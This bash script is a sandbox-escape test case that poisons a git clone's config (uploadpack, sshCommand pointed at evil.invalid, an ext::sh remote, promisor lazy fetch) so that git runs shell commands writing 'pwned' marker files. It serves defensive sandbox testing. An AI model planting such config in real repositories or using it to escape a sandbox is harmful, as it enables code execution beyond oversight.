#!/usr/bin/env bash
# attack 14 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
date >attack-14.txt; git add attack-14.txt; commit -m 'attack 14'
blob=$(git rev-parse HEAD:attack-14.txt)
c() { git config --replace-all "$1" "$2"; }
c core.repositoryformatversion 1
c remote.e1.url /usr; c remote.e1.uploadpack "date >>'$H/pwned-14-uploadpack'; :"; c remote.e1.promisor true; c remote.e1.partialclonefilter blob:none
c remote.e2.url ssh://evil.invalid/x; c core.sshCommand "date >>'$H/pwned-14-ssh'; :"; c remote.e2.promisor true
c protocol.ext.allow always; c remote.e3.url "ext::sh -c date%20>>'$H/pwned-14-ext'"; c remote.e3.promisor true
c uploadpack.allowFilter true; c uploadpack.allowAnySHA1InWant true
c extensions.partialClone e1
rm -f ".git/objects/${blob:0:2}/${blob:2}"; rm -f attack-14.txt
exit 0
